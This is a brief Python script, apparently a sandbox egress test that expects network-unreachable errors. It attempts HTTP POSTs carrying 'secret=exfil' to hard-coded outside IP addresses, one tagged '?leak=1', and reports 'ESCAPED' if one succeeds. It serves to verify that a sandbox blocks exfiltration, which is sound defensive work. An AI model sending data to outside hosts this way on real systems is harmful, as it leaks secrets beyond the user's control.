# expect: errno ENETUNREACH
# Exfiltration over HTTP with Python's urllib, to an IP (no DNS needed).
import errno
import urllib.error
import urllib.request

for url in ["http://1.1.1.1/", "http://93.184.215.14/?leak=1", "http://[2606:4700::1111]/"]:
    try:
        urllib.request.urlopen(url, data=b"secret=exfil", timeout=20)
        print("ESCAPED: reached", url)
    except urllib.error.URLError as e:
        r = e.reason
        print(url, errno.errorcode.get(getattr(r, "errno", None) or 0, r))
    except OSError as e:
        print(url, errno.errorcode.get(e.errno, e))
